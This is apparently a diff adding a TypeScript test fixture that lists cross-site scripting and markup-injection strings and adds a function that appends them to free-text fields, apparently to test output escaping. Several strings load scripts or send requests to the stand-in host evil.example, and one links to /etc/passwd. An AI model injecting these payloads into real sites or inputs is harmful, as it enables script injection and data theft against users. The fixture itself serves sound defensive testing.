@@ -1,0 +1,42 @@
+/** What a browser would take for more than text, and facts that hold it wherever somebody else writes. */
+
+export const MARKUP: readonly string[] = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "' onmouseover='alert(1)' x='",
+  '</title></style></svg></details><script src=//evil.example/x.js></script>',
+  '<!-- never closed <![CDATA[ <?php',
+  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,x) [d](vbscript:x)',
+  '[e](&#106;avascript:alert(1)) [f](//evil.example) [g](/etc/passwd) [h](#s1) [i]( javascript:x)',
+  '![p](https://evil.example/p.png) <javascript:alert(1)> <https://evil.example/auto>',
+  '<a href="javascript:alert(1)">x</a> <svg onload=alert(1)> <math><mtext></mtext></math>',
+  '&lt;script&gt; &#60;script&#62; &amp;lt; & &nosuch; &#0; &#x110000;',
+  '}body{background:url(//evil.example/x)}/* */@import "//evil.example";',
+  '<meta http-equiv=refresh content=0;url=//evil.example> <base href=//evil.example>',
+  '<iframe srcdoc="<script>x</script>"></iframe><form action=//evil.example><button>',
+  '| a | b\n|---|---\n| <b> | `|` |\n\n~~~\n<script>\n',
+  `${'> '.repeat(200)}deep ${'- '.repeat(200)}deeper`,
+  '<'.repeat(50),
+  `x-C-1-1 C-1-1 __proto__ constructor ${'\\'.repeat(9)}`,
+];
+
+/** Every string that is not one of a list of ours, with the attack in it. */
+export function poisoned(value: unknown, attack: string, key = ''): unknown {
+  if (typeof value === 'string') {
+    const isWord = KEPT.has(key) || /^\d{4}-\d\d-\d\dT/.test(value) || /^[A-Z_]+$/.test(value);
+    return isWord || !FREE.has(key) ? value : `${value} ${attack}`;
+  }
+  if (Array.isArray(value)) return value.map((one) => poisoned(one, attack, key));
+  if (value === null || typeof value !== 'object') return value;
+  return Object.fromEntries(
+    Object.entries(value).map(([name, one]) => [name, poisoned(one, attack, name)]),
+  );
+}
+const KEPT: ReadonlySet<string> = new Set(['type', 'step', 'attempt', 'protocol', 'run']);
+/** Where models, people and their files write; ids are poisoned by a rule of their own below. */
+const FREE: ReadonlySet<string> = new Set([
+  ...['question', 'text', 'title', 'model', 'brief', 'option', 'position', 'quote', 'why', 'notes'],
+  ...['about', 'message', 'next', 'reason', 'ref', 'testable_as', 'markdown', 'impact', 'tensions'],
+  ...['answer', 'name', 'agent', 'choice', 'how', 'because', 'conditions', 'evidence_refs', 'refs'],
+  ...['path', 'doneWhen', 'test', 'goal', 'answeredBy', 'missing', 'note', 'degraded', 'sought'],
+]);
